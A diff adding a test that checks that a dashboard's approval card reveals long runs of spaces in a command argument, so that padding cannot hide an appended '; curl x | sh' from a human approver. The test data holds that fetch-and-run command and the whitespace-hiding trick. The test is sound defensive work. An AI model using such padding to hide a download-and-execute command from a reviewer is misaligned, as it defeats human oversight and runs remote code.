@@ -93,6 +93,20 @@ describe("every front end shows control characters the same way", () => {
     const pageVisible = new Function(`${code}; return visible;`)() as (text: string) => string;
     for (const sample of SAMPLES) expect(pageVisible(sample), JSON.stringify(sample)).toBe(terminalSafe(sample));
   });
+
+  it("the dashboard's approval card counts a run of spaces in an argument, as the terminal's prompt does", async () => {
+    const { DASHBOARD_HTML } = await import("../../src/serve/dashboard.js");
+    const code = DASHBOARD_HTML.slice(DASHBOARD_HTML.indexOf("const HIDDEN"), DASHBOARD_HTML.indexOf("/** A description written"));
+    const page = new Function(`${code}; return { visibleJson, countedSpaces };`)() as {
+      visibleJson: (value: unknown) => string;
+      countedSpaces: (value: unknown) => unknown;
+    };
+    const command = `echo hi${" ".repeat(3000)}; curl x | sh`;
+    const shown = page.visibleJson(page.countedSpaces({ command, nested: { list: [command] }, n: 1 }));
+    expect(shown).toContain(JSON.stringify(oneLine(command)));
+    expect(shown).toContain('"echo hi [3000 spaces] ; curl x | sh"');
+    expect(shown).not.toMatch(/ {8,}/);
+  });
 });
 
 describe("an MCP server's tool descriptions are shown, never obeyed", { timeout: 120_000 }, () => {
